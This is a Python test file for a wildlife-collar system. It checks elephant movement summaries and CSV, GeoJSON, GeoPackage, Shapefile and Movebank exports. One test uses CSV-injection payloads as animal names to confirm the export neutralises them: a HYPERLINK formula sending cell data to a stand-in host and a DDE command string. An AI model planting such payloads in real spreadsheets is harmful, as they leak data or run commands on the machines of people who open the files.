"""An animal's movement summaries and downloads: home range in metres (minimum convex polygon and
kernel density), speed, day and night by the collar's night, and its fixes as CSV, GeoJSON,
GeoPackage, zipped Shapefile and Movebank CSV read back the way those formats' own readers read them."""

from __future__ import annotations

import csv
import io
import json
import re
import struct
import tempfile
import zipfile
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
from pyproj import CRS
from shapely.geometry import Point, shape

from collar_firmware.risk import is_night
from lora_bridge import exports
from lora_bridge.access import Viewer
from lora_bridge.domain import home_range
from lora_bridge.errors import ExportTooLarge, Forbidden, InvalidRequest
from lora_bridge.views import ActivityView, PositionView

T0 = datetime(2026, 11, 20, 0, 0, tzinfo=UTC)
# A degree of latitude near the equator is about 110.57 km (WGS84): 0.009044° ≈ 1 km.
KM_LAT = 1 / 110.574
KM_LON = 1 / 111.320


def fix(minutes: float, north_km: float, east_km: float) -> PositionView:
    """A fix of Amani near Laikipia (0.3° N, 36.9° E), `north_km`/`east_km` from the origin, stored as
    position `minutes + 1`."""
    return PositionView(
        animal_id="1",
        name="Amani",
        device_id="collar-001",
        time=T0 + timedelta(minutes=minutes),
        lat=0.3 + north_km * KM_LAT,
        lon=36.9 + east_km * KM_LON,
        position_id=int(minutes) + 1,
    )


def square_walk() -> list[PositionView]:
    """The corners of a 2 km x 2 km square and its centre, an hour apart."""
    corners = [(0, 0), (0, 2), (2, 2), (2, 0), (1, 1)]
    return [fix(60 * i, n, e) for i, (n, e) in enumerate(corners)]


def test_minimum_convex_polygon_of_a_2_km_square_is_4_km2():
    mcp = home_range.minimum_convex_polygon(square_walk())
    assert mcp is not None
    assert mcp.area_km2 == pytest.approx(4.0, rel=0.01)
    assert mcp.geometry["type"] == "Polygon"
    lon, lat = mcp.geometry["coordinates"][0][0]
    assert 36.89 < lon < 36.93 and 0.29 < lat < 0.33  # back in WGS84 degrees
    assert home_range.minimum_convex_polygon(square_walk()[:2]) is None


def test_kernel_density_home_range_covers_the_fixes_and_grows_with_the_spread():
    rng = np.random.default_rng(3)
    tight = [fix(30 * i, *rng.normal(0, 0.5, 2)) for i in range(60)]
    wide = [fix(30 * i, *rng.normal(0, 2.0, 2)) for i in range(60)]
    small, large = home_range.kernel_density_range(tight), home_range.kernel_density_range(wide)
    assert small is not None and large is not None
    assert 10 < large.area_km2 / small.area_km2 < 25  # four times the spread, about sixteen times the area
    area = shape(large.geometry)
    inside = sum(area.contains(Point(p.lon, p.lat)) for p in wide)
    assert inside >= 0.9 * len(wide)
    assert home_range.kernel_density_range(tight[:3]) is None


def test_speed_between_fixes_is_distance_over_time_in_km_per_hour():
    walk = [fix(0, 0, 0), fix(60, 0, 3), fix(90, 0, 3)]  # 3 km in an hour, then still for half an hour
    speeds = home_range.speeds(walk)
    assert list(speeds["speed_km_h"].round(2)) == [pytest.approx(3.0, abs=0.03), 0.0]


def test_day_and_night_use_the_collars_own_night():
    summaries = [
        ActivityView(
            "1",
            "collar-001",
            T0 + timedelta(hours=h),
            60,
            1,
            100 if h < 12 else 20,
            400,
            {"rest": 20.0, "walk": 80.0} if h < 12 else {"rest": 90.0, "walk": 10.0},
            None,
        )
        for h in range(24)
    ]
    offset = home_range.utc_offset_min({})
    table = home_range.day_night_activity(summaries, offset)
    nights = sum(is_night(int((T0 + timedelta(hours=h, minutes=30)).timestamp()), offset) for h in range(24))
    assert set(table.index) == {"day", "night"}
    assert 0 < nights < 24
    # East Africa Time: the first UTC hours are local morning (day), the evening hours are night.
    assert table.loc["night", "VeDBA mean (mg)"] != table.loc["day", "VeDBA mean (mg)"]
    budget = home_range.daily_budget(summaries)
    assert budget.sum(axis=1).iloc[0] == pytest.approx(24.0)


def test_fixes_download_as_csv_geojson_geopackage_and_movebank_csv():
    fixes = square_walk()
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(fixes).decode())))
    assert [r["time_utc"] for r in rows][:2] == ["2026-11-20T00:00:00.000Z", "2026-11-20T01:00:00.000Z"]

    collection = json.loads(exports.to_geojson(fixes))
    assert collection["type"] == "FeatureCollection" and len(collection["features"]) == 5
    first = collection["features"][0]
    assert first["geometry"] == {"type": "Point", "coordinates": [36.9, 0.3]}  # RFC 7946: lon, lat

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "amani.gpkg"
        path.write_bytes(exports.to_geopackage(fixes))
        assert pyogrio.list_layers(path)[0][0] == "fixes"
        frame = gpd.read_file(path)
        assert frame.crs.to_epsg() == 4326 and len(frame) == 5
        assert path.read_bytes()[:16] == b"SQLite format 3\x00"

    movebank = list(
        csv.DictReader(io.StringIO(exports.to_movebank_csv(fixes, "Loxodonta africana").decode()))
    )
    # Movebank's attribute names, as its own downloads carry them, read the way R's move::move reads
    # a Movebank file: timestamp "%Y-%m-%d %H:%M:%S" in UTC, location-long / location-lat.
    assert list(movebank[0]) == list(exports.MOVEBANK_COLUMNS)
    assert movebank[1]["timestamp"] == "2026-11-20 01:00:00.000"
    assert datetime.strptime(movebank[1]["timestamp"][:19], "%Y-%m-%d %H:%M:%S") == datetime(2026, 11, 20, 1)
    assert (float(movebank[0]["location-long"]), float(movebank[0]["location-lat"])) == (36.9, 0.3)
    assert (movebank[0]["individual-local-identifier"], movebank[0]["animal-nickname"]) == ("1", "Amani")
    assert movebank[0]["tag-local-identifier"] == "collar-001"


def test_a_renamed_animal_stays_one_individual_in_movebank_and_two_animals_of_one_name_stay_two():
    # Movebank's attribute dictionary: the animal ID (individual-local-identifier) is unique within the study; the
    # animal nickname is an alternate identifier, its display name. Amani is renamed "Amani II" halfway, and a
    # second elephant is also named "Amani II". Read back the way Movebank's R package move2 groups a track.
    walk = square_walk()
    renamed = [*walk[:2], *(replace(f, name="Amani II") for f in walk[2:])]
    namesake = [replace(f, animal_id="2", name="Amani II", device_id="collar-002", position_id=f.position_id + 100)
                for f in walk]
    table = pd.read_csv(io.BytesIO(exports.to_movebank_csv(renamed + namesake, "Loxodonta africana")),
                        dtype={"individual-local-identifier": str})
    tracks = table.groupby("individual-local-identifier")
    assert {animal: len(rows) for animal, rows in tracks} == {"1": 5, "2": 5}
    assert tracks.get_group("1")["animal-nickname"].tolist() == ["Amani", "Amani", "Amani II", "Amani II", "Amani II"]
    assert set(tracks.get_group("2")["tag-local-identifier"]) == {"collar-002"}


def test_a_researcher_merging_two_movebank_downloads_and_dropping_repeated_event_ids_keeps_every_fix_once():
    # Monday's download holds the first three fixes, Wednesday's the last three: the middle fix is in both. Movebank
    # gives each event one unique event-id, and a researcher merging the files drops rows whose event-id it has seen.
    walk = square_walk()
    monday, wednesday = (pd.read_csv(io.BytesIO(exports.to_movebank_csv(part, "Loxodonta africana")))
                         for part in (walk[:3], walk[2:]))
    merged = pd.concat([monday, wednesday]).drop_duplicates("event-id")
    assert merged["timestamp"].tolist() == [utc_millis_movebank(f) for f in walk]
    assert merged["event-id"].is_unique
    assert monday["event-id"].iloc[2] == wednesday["event-id"].iloc[0], "one fix, one event-id in every download"


def test_a_fix_by_the_equator_is_written_in_fixed_decimals_in_every_text_export():
    # Python and pandas write 0.00001 as "1e-05" and 0.1 + 0.2 as 0.30000000000000004: one file would hold
    # coordinates in two notations and widths. Every text export writes 7 decimals (about 1 cm), as Movebank's does.
    walk = square_walk()
    fixes = [replace(walk[0], lat=0.00001, lon=0.1 + 0.2), replace(walk[1], lat=-0.0000025, lon=36.12345678912)]
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(fixes).decode())))
    assert [(r["lat"], r["lon"]) for r in rows] == [("0.0000100", "0.3000000"), ("-0.0000025", "36.1234568")]
    movebank = list(csv.DictReader(io.StringIO(exports.to_movebank_csv(fixes).decode())))
    assert [(r["location-lat"], r["location-long"]) for r in movebank] == [(r["lat"], r["lon"]) for r in rows]
    features = json.loads(exports.to_geojson(fixes))["features"]
    assert [f["geometry"]["coordinates"] for f in features] == [[0.3, 0.00001], [36.1234568, -0.0000025]]


def test_a_fix_not_read_from_the_store_has_no_event_id_to_give_a_movebank_file():
    with pytest.raises(ValueError, match="no stored position id"):
        exports.to_movebank_csv([replace(square_walk()[0], position_id=None)])


def utc_millis_movebank(fix: PositionView) -> str:
    """A fix's time as Movebank writes it (`yyyy-MM-dd HH:mm:ss.SSS`, UTC)."""
    return fix.time.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.") + f"{fix.time.microsecond // 1000:03d}"


def test_a_researcher_reads_the_fixes_csv_with_pandas_and_gets_date_times_whether_or_not_a_fix_fell_on_a_second():
    # A fix's time is the network's receive time less the fix's age: to the microsecond, and now and then exactly
    # on a whole second. pandas' parse_dates takes the first row's shape for the whole column.
    fixes = square_walk()
    fixes = [fixes[0], *(replace(f, time=f.time + timedelta(microseconds=546286)) for f in fixes[1:])]
    frame = pd.read_csv(io.BytesIO(exports.to_csv(fixes)), parse_dates=["time_utc"])
    assert str(frame["time_utc"].dt.tz) == "UTC"
    assert frame["time_utc"].tolist() == [pd.Timestamp(f.time).floor("ms") for f in fixes]
    movebank = pd.read_csv(io.BytesIO(exports.to_movebank_csv(fixes)), parse_dates=["timestamp"])
    assert movebank["timestamp"].tolist() == [pd.Timestamp(f.time.replace(tzinfo=None)).floor("ms") for f in fixes]


def test_an_empty_track_downloads_as_files_with_no_rows():
    assert exports.to_csv([]).decode().strip() == ",".join(exports.COLUMNS)
    assert json.loads(exports.to_geojson([]))["features"] == []
    assert exports.to_movebank_csv([], "Loxodonta africana").decode().strip() == ",".join(
        exports.MOVEBANK_COLUMNS
    )


def test_a_researchers_empty_geopackage_of_the_last_hours_has_the_layout_of_a_full_one(tmp_path):
    # A role 6 h late asks for the last 3 hours: no fix, but a layer a GIS opens like any other.
    empty, full = tmp_path / "empty.gpkg", tmp_path / "full.gpkg"
    empty.write_bytes(exports.to_geopackage([], None, "positions"))
    full.write_bytes(exports.to_geopackage(square_walk(), None, "positions"))
    for path in (empty, full):
        info = pyogrio.read_info(path, layer="positions")
        assert (info["geometry_type"], info["crs"]) == ("Point", "EPSG:4326"), path.name
        assert dict(zip(info["fields"], info["dtypes"], strict=True))["lat"] == "float64", path.name
    assert len(gpd.read_file(empty)) == 0


def test_a_researcher_opening_the_geopackage_in_a_gis_filters_the_fixes_by_their_date_and_time(tmp_path):
    # A fix's time to the millisecond, as the store keeps it; a GIS's time filter (QGIS's temporal controller)
    # offers only DATETIME fields, and geopandas reads them back as UTC date-times.
    fixes = [replace(f, time=f.time + timedelta(milliseconds=250)) for f in square_walk()]
    for path, given in ((tmp_path / "amani.gpkg", fixes), (tmp_path / "none.gpkg", [])):
        path.write_bytes(exports.to_geopackage(given, None, "positions"))
        info = pyogrio.read_info(path, layer="positions")
        assert dict(zip(info["fields"], info["ogr_types"], strict=True))["time_utc"] == "OFTDateTime", path.name
    frame = gpd.read_file(tmp_path / "amani.gpkg")
    assert str(frame["time_utc"].dt.tz) == "UTC"
    assert frame["time_utc"].dt.to_pydatetime().tolist() == [f.time for f in fixes]
    night = frame[frame["time_utc"] >= "2026-11-20T02:00:00Z"]
    assert len(night) == 3


def test_the_animal_pages_files_carry_the_species_and_say_whether_the_points_are_exact():
    researcher = Viewer("rose", "researcher")
    files = {f.label: f for f in exports.files(square_walk(), "Loxodonta africana", researcher, "Amani_7d")}
    assert [f.filename for f in files.values()] == ["Amani_7d.csv", "Amani_7d.geojson", "Amani_7d.gpkg",
                                                    "Amani_7d.shp.zip", "Amani_7d_movebank.csv"]
    assert files["Shapefile"].media_type == "application/zip"
    rows = list(csv.DictReader(io.StringIO(files["CSV"].data.decode())))
    assert {r["species"] for r in rows} == {"Loxodonta africana"}
    collection = json.loads(files["GeoJSON"].data)
    assert collection["precision"] == "coarse"
    assert {f["properties"]["species"] for f in collection["features"]} == {"Loxodonta africana"}
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "amani.gpkg"
        path.write_bytes(files["GeoPackage"].data)
        assert set(gpd.read_file(path)["species"]) == {"Loxodonta africana"}
        shapefile = Path(folder) / "Amani_7d.shp.zip"
        shapefile.write_bytes(files["Shapefile"].data)
        assert set(gpd.read_file(shapefile)["species"]) == {"Loxodonta africana"}
    with zipfile.ZipFile(io.BytesIO(files["Shapefile"].data)) as archive:
        assert "Positions: coarse" in archive.read("README.txt").decode()
    movebank = list(csv.DictReader(io.StringIO(files["Movebank CSV"].data.decode())))
    assert {r["individual-taxon-canonical-name"] for r in movebank} == {"Loxodonta africana"}


def test_neither_the_visitor_kiosk_nor_a_field_technician_gets_files_of_the_fixes_as_on_the_api():
    for who in (Viewer("kiosk", "visitor"), Viewer("tito", "field_technician")):
        with pytest.raises(Forbidden):
            exports.files(square_walk(), "Loxodonta africana", who, "Amani_7d")
    assert [f.label for f in exports.files(square_walk(), None, Viewer("amina", "ranger"), "Amani_7d")] == [
        "CSV", "GeoJSON", "GeoPackage", "Shapefile", "Movebank CSV"]


FORMULA_NAMES = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Amani\")", "+254 herd", "-Amani", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "\tTembo", "\rTembo"]


def test_a_researcher_opening_the_csv_in_a_spreadsheet_sees_names_that_look_like_formulas_as_text():
    # OWASP "CSV Injection": Excel and LibreOffice take a cell starting with = + - @ tab or CR for a formula.
    walk = square_walk()
    fixes = [replace(f, name=name, device_id=f"@{f.device_id}", lon=-f.lon)
             for f, name in zip(walk + walk[:1], FORMULA_NAMES, strict=True)]
    fixes.append(replace(walk[1], animal_id="2", name="Amani-2 = calm", device_id="collar-002", lon=-36.5,
                         position_id=99))
    species = {"1": "-Loxodonta africana", "2": "Loxodonta africana"}
    files = {f.label: f for f in exports.files(fixes, species, Viewer("amina", "researcher"), "herd")}

    rows = list(csv.DictReader(io.StringIO(files["CSV"].data.decode(), newline="")))
    assert list(rows[0]) == list(exports.COLUMNS)
    by_name = {r["name"]: r for r in rows}
    assert set(by_name) == {"'" + name for name in FORMULA_NAMES} | {"Amani-2 = calm"}
    assert {r["device_id"] for r in rows} == {"'@collar-001", "collar-002"}
    assert by_name["Amani-2 = calm"]["species"] == "Loxodonta africana"
    assert {r["species"] for r in rows if r["animal_id"] == "1"} == {"'-Loxodonta africana"}
    for row in rows:
        assert not row["name"].startswith(exports.FORMULA_STARTS)
        assert float(row["lon"]) < 0 and not row["lon"].startswith("'"), "a negative longitude stays a number"

    frame = pd.read_csv(io.BytesIO(files["CSV"].data), keep_default_na=False)
    assert list(frame.columns) == list(exports.COLUMNS)
    assert frame["lon"].dtype == "float64" and frame["lat"].dtype == "float64"
    assert (frame["lon"] < 0).all()
    assert sorted(frame["name"]) == sorted(by_name)

    # Movebank stores the values as given: the names, tag ids and species go there as they are.
    movebank = pd.read_csv(io.BytesIO(files["Movebank CSV"].data), keep_default_na=False)
    assert list(movebank.columns) == list(exports.MOVEBANK_COLUMNS)
    assert sorted(movebank["animal-nickname"]) == sorted([*FORMULA_NAMES, "Amani-2 = calm"])
    assert set(movebank["tag-local-identifier"]) == {"@collar-001", "collar-002"}
    assert len(movebank) == len(frame) == len(fixes), "a name holding a carriage return keeps its row whole"
    assert set(movebank["individual-taxon-canonical-name"]) == {"-Loxodonta africana", "Loxodonta africana"}
    assert movebank["location-long"].dtype == "float64" and (movebank["location-long"] < 0).all()


# The ESRI Shapefile Technical Description (July 1998): the .shp and .shx open on a 100-byte header whose file
# code 9994 and file length (in 16-bit words) are big-endian, whose version 1000 and shape type (1: Point) are
# little-endian. The .dbf is a dBASE table: a 32-byte header (the record count at byte 4, the header's and a
# record's length at bytes 8 and 10), then one 32-byte descriptor a field (its name in 11 NUL-padded bytes, its
# type at byte 11, its width at 16, its decimals at 17) up to a 0x0D terminator.
SHP_FILE_CODE, SHP_VERSION, SHP_POINT = 9994, 1000, 1


def shp_header(data: bytes) -> dict[str, int]:
    """The fields of a .shp or .shx header, read as the Technical Description lays them out."""
    (code,) = struct.unpack(">i", data[0:4])
    (length_words,) = struct.unpack(">i", data[24:28])
    version, shape_type = struct.unpack("<ii", data[28:36])
    return {"code": code, "bytes": 2 * length_words, "version": version, "shape_type": shape_type}


def dbf_fields(data: bytes) -> list[tuple[str, str, int, int]]:
    """(name, type, width, decimals) of each field of a dBASE table."""
    fields, at = [], 32
    while data[at] != 0x0D:
        name = data[at:at + 11].split(b"\0")[0].decode("ascii")
        fields.append((name, chr(data[at + 11]), data[at + 16], data[at + 17]))
        at += 32
    return fields


def unzipped(data: bytes, folder: Path) -> dict[str, bytes]:
    """The zip's files by name, also written out to `folder` as a GIS user unpacks them."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(folder)
        return {name: archive.read(name) for name in archive.namelist()}


def test_park_gis_staff_open_the_zipped_shapefile_and_find_each_fix_a_point_in_wgs84(tmp_path):
    fixes = [replace(f, time=f.time + timedelta(milliseconds=250)) for f in square_walk()]
    data = exports.to_shapefile(fixes, "Loxodonta africana", "exact", "Amani_7d")
    (tmp_path / "Amani_7d.shp.zip").write_bytes(data)
    parts = unzipped(data, tmp_path / "unpacked")

    # QGIS and ArcGIS open the zip as it is (GDAL reads a .shp.zip), and the files unpacked.
    assert sorted(parts) == ["Amani_7d.cpg", "Amani_7d.dbf", "Amani_7d.prj", "Amani_7d.shp", "Amani_7d.shx",
                             "README.txt"]
    frame = gpd.read_file(tmp_path / "Amani_7d.shp.zip")
    assert frame.equals(gpd.read_file(tmp_path / "unpacked" / "Amani_7d.shp"))
    assert frame.crs.to_epsg() == 4326 and set(frame.geom_type) == {"Point"}
    assert [(p.x, p.y) for p in frame.geometry] == [(f.lon, f.lat) for f in fixes]
    assert frame["time_utc"].tolist() == [exports.utc_millis(f.time) for f in fixes]
    assert pd.to_datetime(frame["time_utc"], utc=True, format="ISO8601").tolist() == [f.time for f in fixes]
    assert frame["lat"].tolist() == pytest.approx([f.lat for f in fixes], abs=1e-15), "N(24,15): 15 decimals"
    assert set(frame["species"]) == {"Loxodonta africana"}

    # The parts as the Technical Description lays them out: one point record of 28 bytes a fix in the .shp,
    # one index record of 8 bytes a fix in the .shx.
    shp, shx = shp_header(parts["Amani_7d.shp"]), shp_header(parts["Amani_7d.shx"])
    assert (shp["code"], shp["version"], shp["shape_type"]) == (SHP_FILE_CODE, SHP_VERSION, SHP_POINT)
    assert (shx["code"], shx["version"], shx["shape_type"]) == (SHP_FILE_CODE, SHP_VERSION, SHP_POINT)
    assert shp["bytes"] == len(parts["Amani_7d.shp"]) == 100 + 28 * len(fixes)
    assert shx["bytes"] == len(parts["Amani_7d.shx"]) == 100 + 8 * len(fixes)
    assert struct.unpack("<4d", parts["Amani_7d.shp"][36:68]) == (36.9, 0.3, 36.9 + 2 * KM_LON, 0.3 + 2 * KM_LAT)
    # The .prj: WGS 84 in ESRI's WKT; the .cpg: the .dbf's text is UTF-8.
    prj = parts["Amani_7d.prj"].decode()
    assert prj.startswith('GEOGCS["GCS_WGS_1984"') and CRS.from_wkt(prj).to_epsg() == 4326
    assert parts["Amani_7d.cpg"].decode().strip() == "UTF-8"
    # The .dbf: dBASE III, field names of at most 10 characters, the time as text, the degrees as N(24,15).
    dbf = parts["Amani_7d.dbf"]
    fields = {name: (kind, width, decimals) for name, kind, width, decimals in dbf_fields(dbf)}
    assert dbf[0] == 3 and struct.unpack("<I", dbf[4:8])[0] == len(fixes)
    assert list(fields) == list(exports.COLUMNS) and all(len(name) <= 10 for name in fields)
    assert fields["time_utc"] == ("C", 24, 0) and fields["lat"] == fields["lon"] == ("N", 24, 15)

    # The README names each field's full column and says what the points are.
    readme = parts["README.txt"].decode()
    assert "Positions: exact" in readme and "WGS 84 (EPSG:4326)" in readme and "fixes: 5, animals: 1" in readme
    assert "time_utc    time_utc    text, ISO 8601 in UTC" in readme


def test_an_animal_named_in_amharic_keeps_its_name_in_the_shapefile_and_a_name_too_long_for_a_dbf_is_cut_whole(
        tmp_path):
    # A dBASE text field holds 254 bytes; an animal's name may be 128 characters, 384 bytes in Ge'ez script (3 bytes
    # a character in UTF-8). GDAL cuts it with a warning in the bridge's log only; Tembo says so in the zip.
    walk = square_walk()
    long_name = "ሰ" * 128
    fixes = [replace(walk[0], name="Ñyota ንጉሥ"), replace(walk[1], animal_id="2", name=long_name, position_id=50)]
    data = exports.to_shapefile(fixes, {"1": "Loxodonta africana", "2": "Ceratotherium simum"}, "exact", "herd")
    (tmp_path / "herd.shp.zip").write_bytes(data)

    frame = gpd.read_file(tmp_path / "herd.shp.zip")
    assert pyogrio.read_info(tmp_path / "herd.shp.zip")["encoding"] == "UTF-8"
    assert frame["name"].tolist() == ["Ñyota ንጉሥ", "ሰ" * 84], "84 characters of 3 bytes fill 252 of the 254"
    readme = unzipped(data, tmp_path / "unpacked")["README.txt"].decode()
    assert f"name: {long_name}" in readme, "the README carries the name whole"
    assert "Ñyota" not in readme, "only the cut names are listed"


def test_a_researchers_empty_shapefile_of_the_last_hours_is_an_empty_point_layer_that_says_so(tmp_path):
    # A role 6 h late asks for the last 3 hours: no fix, but a Shapefile a GIS opens like any other.
    data = exports.to_shapefile([], None, "coarse", "positions")
    (tmp_path / "positions.shp.zip").write_bytes(data)
    parts = unzipped(data, tmp_path / "unpacked")

    info = pyogrio.read_info(tmp_path / "positions.shp.zip")
    assert (info["geometry_type"], info["crs"], info["features"]) == ("Point", "EPSG:4326", 0)
    assert list(info["fields"]) == list(exports.COLUMNS)
    assert shp_header(parts["positions.shp"])["shape_type"] == SHP_POINT
    assert len(gpd.read_file(tmp_path / "positions.shp.zip")) == 0
    readme = parts["README.txt"].decode()
    assert "fixes: 0, animals: 0 (no fix in the time asked for: an empty layer)" in readme
    assert "Positions: coarse" in readme


def test_a_shapefile_past_the_formats_2_gb_a_file_is_refused_before_it_is_written(tmp_path):
    # The sizes Tembo foresees are the ones GDAL writes, so it refuses a too large export before writing it.
    fixes = square_walk() + [replace(f, animal_id="2", name="Ñyota ንጉሥ", position_id=f.position_id + 100)
                             for f in square_walk()]
    frame = exports.fixes_frame(fixes, "Loxodonta africana")
    parts = unzipped(exports.to_shapefile(fixes, "Loxodonta africana"), tmp_path)
    assert exports.shapefile_part_bytes(frame) == {part: len(parts[f"fixes{part}"]) for part in (".shp", ".shx", ".dbf")}
    assert exports.SHAPEFILE_PART_MAX_BYTES == 2**31 - 1

    dbf_bytes = exports.shapefile_part_bytes(frame)[".dbf"]
    with pytest.raises(ExportTooLarge, match=r"10 fixes .*its \.dbf .*export fewer days .*GeoPackage"):
        exports.to_shapefile(fixes, "Loxodonta africana", max_part_bytes=dbf_bytes - 1)
    assert exports.to_shapefile(fixes, "Loxodonta africana", max_part_bytes=dbf_bytes)
    assert issubclass(ExportTooLarge, InvalidRequest), "the API answers 400 with the reason"


def test_long_column_names_become_distinct_readable_shapefile_fields_of_ten_characters():
    fields = exports.shapefile_field_names(exports.MOVEBANK_COLUMNS)
    assert all(len(name) <= 10 and re.fullmatch(r"[0-9A-Za-z_]+", name) for name in fields.values())
    assert len({name.lower() for name in fields.values()}) == len(fields), "dBASE ignores case"
    assert fields["location-long"] == "location_l" and fields["location-lat"] == "location_2"
    assert fields["individual-taxon-canonical-name"] == "individual"
    assert fields["individual-local-identifier"] == "individu_2"
    assert exports.shapefile_field_names(exports.MOVEBANK_COLUMNS) == fields, "the same names every time"
    assert exports.shapefile_field_names(exports.COLUMNS) == {c: c for c in exports.COLUMNS}


@pytest.mark.parametrize(("name", "animal_id", "parts_named"), [
    ("Ñyota", 7, "Nyota_7d"),  # Swahili names written with a tilde: transliterated, not cut to "yota"
    ("Zoë Mkubwa", 8, "Zoe_Mkubwa_7d"),
    ("ንጉሥ", 9, "animal_9_7d"),  # an Amharic name in Ge'ez: no Latin letter to keep, so the animal's id
    ("نمر", 10, "animal_10_7d"),  # an Arabic one
])
def test_park_gis_staff_unzip_a_shapefile_whose_parts_are_named_after_the_animal_in_latin_letters(
        tmp_path, name, animal_id, parts_named):
    researcher = Viewer("rose", "researcher")
    stem = f"{name.replace(' ', '_')}_7d"
    layer = f"{exports.latin_name(name, f'animal_{animal_id}')}_7d"
    files = {f.label: f for f in exports.files(square_walk(), "Panthera leo", researcher, stem, layer)}

    assert files["Shapefile"].filename == f"{stem}.shp.zip", "the download keeps the animal's full name"
    with zipfile.ZipFile(io.BytesIO(files["Shapefile"].data)) as archive:
        names = sorted(archive.namelist())
    assert names == sorted([*(f"{parts_named}{part}" for part in (".cpg", ".dbf", ".prj", ".shp", ".shx")),
                            "README.txt"])
    (tmp_path / files["Shapefile"].filename).write_bytes(files["Shapefile"].data)
    assert len(gpd.read_file(tmp_path / files["Shapefile"].filename)) == len(square_walk())


def test_a_shapefile_asked_for_by_a_name_with_accents_alone_is_transliterated_too():
    data = exports.to_shapefile(square_walk(), "Panthera leo", layer="Ñyota_7d")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "Nyota_7d.shp" in archive.namelist() and "yota_7d.shp" not in archive.namelist()
